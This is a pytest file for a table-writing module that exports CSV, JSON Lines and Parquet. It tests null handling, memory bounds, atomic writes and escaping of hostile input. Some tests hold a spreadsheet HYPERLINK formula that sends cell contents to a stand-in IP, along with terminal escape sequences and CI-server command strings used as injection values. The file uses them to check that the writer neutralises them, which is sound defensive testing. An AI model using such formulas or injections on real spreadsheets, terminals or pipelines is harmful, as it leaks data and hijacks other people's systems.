"""Tables as files: three formats hold the same values, absent ones stay absent, hostile text stays text."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stresstest.errors import UsageError
from stresstest.table_file import table_encoder, write_table

COLUMNS: dict[str, type] = {"id": str, "n": int, "share": float, "flag": bool, "text": str}
ROWS: list[dict[str, Any]] = [
    {"id": "a", "n": 1, "share": 0.5, "flag": True, "text": 'Two "lines",\nand a comma; \x1b[2J 漢字'},
    {"id": "b", "n": None, "share": None, "flag": None, "text": None},
    {"id": "=1+1", "n": 2**40, "share": 1e-9, "flag": False, "text": ""},
]


def test_json_lines_hold_the_rows(tmp_path: Path) -> None:
    """And nothing that steers a terminal."""
    path = tmp_path / "rows.jsonl"
    assert write_table(str(path), COLUMNS, ROWS) == len(ROWS)
    raw = path.read_bytes()
    assert raw.isascii()
    assert b"\x1b" not in raw
    assert [json.loads(line) for line in raw.splitlines()] == ROWS


def test_csv_has_a_header_and_empty_cells(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    write_table(str(path), COLUMNS, ROWS)
    with path.open(encoding="utf-8", newline="") as file:
        found = list(csv.DictReader(file))
    assert [row["text"] for row in found] == [ROWS[0]["text"].replace("\x1b", "␛"), "", ""]
    assert [row["n"] for row in found] == ["1", "", str(2**40)]
    assert [row["flag"] for row in found] == ["true", "", "false"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, start: str) -> None:
    """Answers and ids are a stranger's: a cell of theirs must not run. Numbers stay numbers."""
    path = tmp_path / "rows.csv"
    hostile = f'{start}HYPERLINK("http://192.0.2.1/?"&A1)'
    row = {"id": hostile, "n": -3, "share": -0.5, "flag": True, "text": f"fine;={hostile}"}
    write_table(str(path), COLUMNS, [row])
    with path.open(encoding="utf-8", newline="") as file:
        header, cells = list(csv.reader(file))
    assert header == list(COLUMNS)
    assert cells == [f"'{hostile}", "-3", "-0.5", "true", f"fine;'={hostile}"]
    path = tmp_path / "rows.parquet"
    write_table(str(path), COLUMNS, [row])
    assert pyarrow.parquet.read_table(path).to_pylist() == [row]


@pytest.mark.parametrize("separator", [";", "\t"])
@given(text=st.text(alphabet="=+-@＝;\t|\r\n\"' ,a", max_size=12))
def test_no_reader_of_a_csv_finds_a_formula(separator: str, text: str) -> None:
    """A spreadsheet with Italian settings splits at semicolons, wherever this file has quotes: no part of a
    text may then begin as a formula does."""
    encoder = table_encoder("x.csv", {"id": str, "text": str})
    written = (encoder.encode([{"id": "r0", "text": text}]) + encoder.end()).decode()
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=quoting):
            for cell in (each.lstrip(' "') for each in row):
                assert not cell.startswith(tuple("=@＝"))
                assert not cell.startswith(("+", "-")) or cell[1:2] == " ", "the item of a list"


def test_no_cell_of_a_csv_steers_a_terminal(tmp_path: Path) -> None:
    """Ids and answers are a stranger's, and `cat` shows a CSV as it is; tabs and line breaks are text."""
    path = tmp_path / "rows.csv"
    controls = "".join(map(chr, [*range(32), *range(127, 160)]))
    write_table(str(path), {"id": str, "text": str}, [{"id": "\x1b]0;owned\x07", "text": f"a{controls}z"}])
    written = path.read_bytes().decode()
    assert {c for c in written if unicodedata.category(c) == "Cc"} == {"\t", "\n", "\r"}
    with path.open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert row["id"] == "␛]0;owned␇"
    assert "\t\n" in row["text"]
    assert "␡" in row["text"]


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_no_row_gives_a_ci_server_a_command(ending: str, tmp_path: Path) -> None:
    """A table may be written to /dev/stdout, which a CI server reads: an answer set its variables."""
    path = tmp_path / f"rows.{ending}"
    said = "::error::a\n  ::warning::b ##vso[task.setvariable variable=X]y ##[error] ::c"
    write_table(str(path), {"id": str, "text": str}, [{"id": said, "text": said}])
    written = path.read_text(encoding="utf-8")
    assert re.search(r"##[A-Za-z]*\[", written) is None
    assert not any(line.lstrip().startswith("::") for line in written.splitlines())
    if ending == "jsonl":
        assert json.loads(written) == {"id": said, "text": said}


def test_parquet_has_the_declared_types_and_nulls(tmp_path: Path) -> None:
    path = tmp_path / "rows.parquet"
    write_table(str(path), COLUMNS, ROWS)
    table = pyarrow.parquet.read_table(path)
    assert table.to_pylist() == ROWS
    assert [str(field.type) for field in table.schema] == ["string", "int64", "double", "bool", "string"]


@pytest.mark.parametrize("ending", ["csv", "parquet", "jsonl"])
def test_an_empty_table_is_a_file_too(tmp_path: Path, ending: str) -> None:
    """With its header or schema: a pipeline that reads it finds the columns."""
    path = tmp_path / f"rows.{ending}"
    assert write_table(str(path), COLUMNS, []) == 0
    if ending == "csv":
        assert path.read_text() == "id,n,share,flag,text\n"
    elif ending == "parquet":
        assert pyarrow.parquet.read_schema(path).names == list(COLUMNS)


@pytest.mark.parametrize("ending", ["csv", "parquet", "jsonl"])
def test_half_a_character_does_not_end_the_file(tmp_path: Path, ending: str) -> None:
    """Loggers cut emoji in two, and UTF-8 cannot hold the halves."""
    write_table(str(tmp_path / f"rows.{ending}"), {"text": str}, [{"text": "a\ud83d"}, {"text": "b"}])


def test_many_rows_are_written_in_bounded_memory(tmp_path: Path) -> None:
    """What is handed out along the way and the end make one readable file."""
    encoder = table_encoder("x.parquet", {"n": int})
    parts = [encoder.encode([{"n": n} for n in range(start, start + 500)]) for start in range(0, 50_000, 500)]
    assert sum(map(bool, parts)) >= 2
    path = tmp_path / "x.parquet"
    path.write_bytes(b"".join(parts) + encoder.end())
    assert pyarrow.parquet.read_table(path)["n"].to_pylist() == list(range(50_000))


def test_long_texts_are_written_in_bounded_memory() -> None:
    """20,000 ids of 150 kB, which a small compressed log can hold, are 3 GB; they go out every 16 MB."""
    encoder = table_encoder("x.parquet", {"id": str})
    tracemalloc.start()
    try:
        parts = [encoder.encode([{"id": f"{n}{'a' * 2**20}"}]) for n in range(128)]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 32 * 2**20
    groups = pyarrow.parquet.ParquetFile(io.BytesIO(b"".join(parts) + encoder.end())).metadata
    assert (groups.num_rows, groups.num_row_groups) == (128, 8)


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_an_interrupted_table_leaves_the_earlier_one(tmp_path: Path, ending: str) -> None:
    """Ctrl-C in an export left nothing of the complete table that had the name before."""
    path = tmp_path / f"t.{ending}"
    path.write_bytes(b"what was there")

    def rows() -> Iterator[dict[str, Any]]:
        yield {"a": 1}
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_table(str(path), {"a": int}, rows())
    assert path.read_bytes() == b"what was there"
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_what_cannot_be_written_is_a_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder that is not there; Parquet without its library."""
    with pytest.raises(UsageError, match="cannot be written"):
        write_table(str(tmp_path / "absent" / "rows.csv"), COLUMNS, ROWS)
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    with pytest.raises(UsageError, match="needs pyarrow"):
        table_encoder("x.parquet", COLUMNS)
